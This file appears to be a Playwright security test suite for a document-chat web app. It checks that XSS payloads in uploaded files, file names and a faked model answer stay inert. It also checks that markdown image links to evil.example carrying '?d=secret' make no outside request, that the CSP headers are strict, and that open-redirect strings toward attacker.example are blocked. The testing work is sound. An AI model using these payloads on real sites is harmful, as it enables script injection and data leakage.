import type { Page } from '@playwright/test';
import { Agent, request as undiciRequest } from 'undici';
import { setFakeReply } from './support/fake-llm';
import { expect, makeFiles, test, uniqueCollection } from './fixtures';

const PAYLOAD = '<img src=x onerror=window.__pwned=1>';
const HOSTILE_DOC = [
  '# Notes',
  '',
  `Falcons dive fast. ${PAYLOAD} <script>window.__pwned=1</script>`,
  '<svg onload=window.__pwned=1></svg> <iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '![leak](https://evil.example/leak.png?d=secret) [x](javascript:window.__pwned=1)',
].join('\n');
const HOSTILE_ANSWER = [
  `Falcons dive fast [1]. ${PAYLOAD}`,
  '<script>window.__pwned=1</script> <svg onload="window.__pwned=1"></svg>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '![chart](https://evil.example/c.png?d=secret) <img src="https://evil.example/i.png">',
  '[click me](javascript:window.__pwned=1) [site](https://evil.example/page)',
  '',
  '[1]: https://evil.example/ref',
].join('\n');

/** Records every request that leaves for a host other than Docent's. */
function watchOutsideRequests(page: Page, baseURL: string): string[] {
  const outside: string[] = [];
  const origin = new URL(baseURL).origin;
  page.on('request', (r) => {
    const url = r.url();
    if (!url.startsWith(origin) && !url.startsWith('data:') && !url.startsWith('blob:')) outside.push(url);
  });
  return outside;
}

const pwned = (page: Page) => page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned);

test('script and HTML in documents, file names, answers, titles and snippets stay inert', async ({ page, documents, chat, baseURL }) => {
  const outside = watchOutsideRequests(page, baseURL!);
  const collection = uniqueCollection('hostile');
  const fileName = `${PAYLOAD}.md`;

  await documents.goto();
  await documents.upload(makeFiles({ [fileName]: HOSTILE_DOC }), collection);
  await documents.expectStatus(PAYLOAD, 'Ready');
  expect(await pwned(page)).toBeUndefined();

  await setFakeReply({ text: HOSTILE_ANSWER, tokenDelayMs: 80 });
  await chat.goto();
  await chat.chooseCollection(collection);
  await chat.ask(`${PAYLOAD} How fast do falcons dive?`);
  await expect(chat.lastAnswer()).toContainText('Falcons dive fast');
  expect(await pwned(page)).toBeUndefined(); // while streaming
  await chat.waitForAnswer();
  expect(await pwned(page)).toBeUndefined();
  await expect(chat.lastAnswer().locator('img, script, iframe, svg:not(button svg)')).toHaveCount(0);
  await expect(chat.lastAnswer().locator('a[href^="javascript:"]')).toHaveCount(0);
  // The reference definition does not turn the citation into a link to evil.example.
  await expect(chat.citation(1)).toBeVisible();

  await chat.citation(1).click();
  await expect(chat.sourcePanel()).toContainText('Falcons dive fast');
  expect(await pwned(page)).toBeUndefined();

  await page.reload();
  await expect(chat.lastAnswer()).toContainText('Falcons dive fast');
  await expect(page.getByRole('complementary', { name: 'Chat history' })).toContainText(PAYLOAD);
  await chat.citation(1).click();
  await page.waitForTimeout(500);
  expect(await pwned(page)).toBeUndefined();

  await documents.goto();
  await expect(documents.row(PAYLOAD)).toBeVisible();
  expect(await pwned(page)).toBeUndefined();
  expect(outside).toEqual([]);
});

test('pages are served with a Content-Security-Policy that keeps images same-origin', async ({ request }) => {
  const response = await request.get('/');
  const csp = response.headers()['content-security-policy'];
  expect(csp).toContain("img-src 'self' data:");
  expect(csp).toContain("object-src 'none'");
  expect(csp).toContain("frame-ancestors 'none'");
  // Scripts run by per-request nonce only: no 'unsafe-inline', and a new nonce each time.
  const scripts = csp.split('; ').find((d) => d.startsWith('script-src'))!;
  expect(scripts).not.toContain('unsafe-inline');
  const nonce = /'nonce-([^']+)'/.exec(scripts)![1];
  const again = (await request.get('/')).headers()['content-security-policy'];
  expect(again).not.toContain(nonce);
  // Next.js put the nonce on its own inline scripts.
  expect(await response.text()).toContain(`nonce="${nonce}"`);
});

test('the pages still work under the nonce policy: no script is refused', async ({ page, chat }) => {
  const refused: string[] = [];
  page.on('console', (m) => {
    if (/Content Security Policy|Content-Security-Policy/i.test(m.text())) refused.push(m.text());
  });
  await chat.goto();
  await expect(page.getByRole('textbox', { name: 'Message' })).toBeEditable();
  await page.goto('/documents');
  await expect(page.getByLabel('Upload documents')).toBeAttached();
  expect(refused).toEqual([]);
});

test('sign-in never sends a signed-in person off site through next', async ({ page, baseURL }) => {
  const origin = new URL(baseURL!).origin;
  for (const next of ['/%09/attacker.example', '/%0a/attacker.example', '//attacker.example', '/%5Cattacker.example', '/.//attacker.example']) {
    const response = await page.goto(`/sign-in?next=${next}`);
    expect(response!.status(), next).toBeLessThan(500);
    expect(new URL(page.url()).origin, next).toBe(origin);
  }
});

test('an oversized body is refused early and the keep-alive connection keeps working', async ({ baseURL }) => {
  const agent = new Agent({ connections: 1, keepAliveTimeout: 30_000 });
  try {
    const big = JSON.stringify({ email: 'a@b.test', password: 'x'.repeat(3 * 1024 * 1024) });
    for (let round = 0; round < 3; round++) {
      const refused = await undiciRequest(`${baseURL}/api/auth/sign-in`, { method: 'POST', dispatcher: agent, headers: { 'content-type': 'application/json' }, body: big });
      expect(refused.statusCode).toBe(413);
      expect(((await refused.body.json()) as { error: { code: string } }).error.code).toBe('body_too_large');
      const health = await undiciRequest(`${baseURL}/api/health`, { dispatcher: agent });
      expect(health.statusCode).toBe(200);
      await health.body.dump();
    }
  } finally {
    await agent.close();
  }
});
